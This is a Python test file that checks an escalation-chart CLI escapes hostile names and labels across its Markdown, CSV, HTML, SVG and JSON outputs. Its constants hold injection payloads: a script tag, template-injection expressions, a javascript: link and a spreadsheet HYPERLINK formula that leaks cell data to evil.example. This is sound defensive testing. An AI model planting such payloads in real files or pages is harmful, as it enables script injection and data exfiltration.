"""Names, labels and contacts are text, never markup: `<script>`, `{{ 7*7 }}`,
`=HYPERLINK(..)`, quotes and Markdown syntax come out inert in every matrix and audit
format (md, csv, html, svg, json), and still read as written."""

from __future__ import annotations

import csv
import io
import json
import re
from pathlib import Path

import pytest
from lxml import etree
from lxml import html as lxml_html

SCRIPT = "<script>alert('x')</script>"
JINJA = "{{ 7*'7' }} {{ 'ev' ~ 'aluated' }} {% if 1 %}"
FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"click me")'
QUOTES = "say \"hi\" & 'bye' \\ back"
MARKDOWN = "| pipe | *star* _under_ [link](javascript:alert(1)) `tick` # hash"
HOSTILE = [SCRIPT, JINJA, FORMULA, QUOTES, MARKDOWN]
# What a template engine or a spreadsheet would produce if it evaluated the input.
EVALUATED = ["7777777", "evaluated", "<script>alert"]


def q(text: str) -> str:
    return json.dumps(text, ensure_ascii=False)  # a JSON string is a YAML scalar


@pytest.fixture(scope="module")
def hostile_yaml(tmp_path_factory: pytest.TempPathFactory) -> Path:
    text = f"""
process:
  id: hostile
  name: {q("Desk " + SCRIPT)}
  owner: {q(FORMULA)}
  description: {q(MARKDOWN + " " + JINJA)}
  reviewed: 2026-10-01
  review_every: 180d
severities:
  - {{id: P1, name: {q(JINJA)}, respond: 15m, resolve: 4h}}
  - {{id: P2, name: {q(QUOTES)}, respond: 1h, resolve: 8h}}
lanes:
  - {{id: customer, name: {q(MARKDOWN)}}}
  - id: tier1
    name: {q(SCRIPT)}
    level: 1
    contacts:
      - {{name: {q(FORMULA)}, role: primary, phone: {q("+1 555 0100")}, email: {q(QUOTES)}}}
      - {{name: {q(MARKDOWN)}, role: backup, email: b@example.com, hours: {q(JINJA)}}}
  - id: tier2
    name: {q(FORMULA)}
    level: 2
    contacts:
      - {{name: {q(SCRIPT)}, role: primary, phone: {q(FORMULA)}}}
      - {{name: {q(QUOTES)}, role: backup, email: {q(SCRIPT)}}}
steps:
  - {{id: raise, lane: customer, type: start, label: {q(SCRIPT)}, next: fix}}
  - id: fix
    lane: tier1
    label: {q(JINJA)}
    next: [{{to: done}}, {{after: 1h, to: up}}]
  - {{id: up, lane: tier1, type: escalate, label: {q(FORMULA)}, next: expert}}
  - {{id: expert, lane: tier2, label: {q(QUOTES)}, next: done}}
  - {{id: done, lane: customer, type: resolution, label: {q(MARKDOWN)}}}
matrix:
  P1: {{tier1: 0m, tier2: 1h}}
  P2: {{tier1: 0m, tier2: 2h}}
"""
    path = tmp_path_factory.mktemp("hostile") / "hostile.yaml"
    path.write_text(text, encoding="utf-8")
    return path


@pytest.fixture(scope="module")
def outputs(hostile_yaml: Path, tmp_path_factory: pytest.TempPathFactory) -> dict[str, bytes]:
    from click.testing import CliRunner

    from escalation_charts.cli import cli

    out = tmp_path_factory.mktemp("out")
    for command in (["matrix", "-f", "md,csv,html,svg"], ["audit", "-f", "md,html,json"]):
        result = CliRunner().invoke(
            cli, [command[0], str(hostile_yaml), "-o", str(out), *command[1:]]
        )
        assert result.exit_code == 0, result.output
    return {
        p.name.removeprefix("hostile-"): p.read_bytes()
        for p in out.iterdir()
        if not p.name.startswith(".")
    }


def squash(text: str) -> str:
    return " ".join(text.split())


def test_no_output_evaluated_anything(outputs: dict[str, bytes]) -> None:
    for name, data in outputs.items():
        text = data.decode("utf-8")
        # CSV is plain data: a spreadsheet shows `<script>` as text, so it stays as written
        for mark in EVALUATED[:2] if name.endswith(".csv") else EVALUATED:
            assert mark not in text, f"{name} contains {mark!r}"


@pytest.mark.parametrize("name", ["matrix.md", "audit.md"])
def test_markdown_escapes_html_template_tags_and_table_syntax(
    outputs: dict[str, bytes], name: str
) -> None:
    text = outputs[name].decode("utf-8")
    assert "<script" not in text.lower()
    assert "&lt;script&gt;" in text
    assert "{{" not in text and "{%" not in text
    assert not re.search(r"(?<!\\)\]\(javascript:", text), "a live Markdown link"
    # every row of a table has as many cell separators as its header
    for table in re.findall(r"(?:^\|.*\|$\n?)+", text, flags=re.M):
        widths = {len(re.findall(r"(?<!\\)\|", line)) for line in table.splitlines()}
        assert len(widths) == 1, table


def test_csv_cells_are_never_formulas_and_keep_their_text(outputs: dict[str, bytes]) -> None:
    cells = []
    for name in ("matrix.csv", "contacts.csv"):
        text = outputs[name].decode("utf-8-sig")
        rows = list(csv.reader(io.StringIO(text, newline="")))
        assert len({len(r) for r in rows}) == 1, f"a quote or newline broke {name}'s columns"
        cells += [c for r in rows for c in r]
    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")]
    assert "Level 2: " + FORMULA in cells  # a heading: shown as text, not at the start
    assert any(c.startswith("'" + FORMULA) for c in cells)  # a contact named like a formula


@pytest.mark.parametrize("name", ["matrix.html", "audit.html"])
def test_html_shows_the_text_and_runs_nothing(outputs: dict[str, bytes], name: str) -> None:
    doc = lxml_html.document_fromstring(outputs[name].decode("utf-8"))
    assert doc.xpath("//script") == []
    for element in doc.iter():
        assert not [a for a in element.attrib if a.lower().startswith("on")]
    shown = squash(doc.text_content())
    for text in (SCRIPT, FORMULA, QUOTES, MARKDOWN):
        assert squash(text) in shown, f"{text!r} not shown as written in {name}"
    assert squash(JINJA) in shown


def test_svg_is_well_formed_and_shows_the_text(outputs: dict[str, bytes]) -> None:
    svg = etree.fromstring(outputs["matrix.svg"])
    elements = list(svg.iter(tag=etree.Element))
    assert not [e for e in elements if etree.QName(e).localname == "script"]
    for element in elements:
        assert not [a for a in element.attrib if a.lower().startswith("on")]
    shown = squash(" ".join(t.text or "" for t in svg.iter("{http://www.w3.org/2000/svg}text")))
    for text in (SCRIPT, FORMULA, QUOTES, MARKDOWN, JINJA):
        assert squash(text) in shown, f"{text!r} not shown as written in the SVG"


def test_json_keeps_every_value_exactly(outputs: dict[str, bytes]) -> None:
    report = json.loads(outputs["audit.json"])
    assert report["process"]["name"] == "Desk " + SCRIPT
    assert report["process"]["owner"] == FORMULA
    assert report["matrix"]["rows"][0]["name"] == JINJA
    tier2 = report["contacts"][1]
    assert tier2["primary"][0] == {
        "name": SCRIPT,
        "phone": FORMULA,
        "email": None,
        "hours": None,
        "reachable": True,
    }
    assert tier2["backup"][0]["email"] == SCRIPT
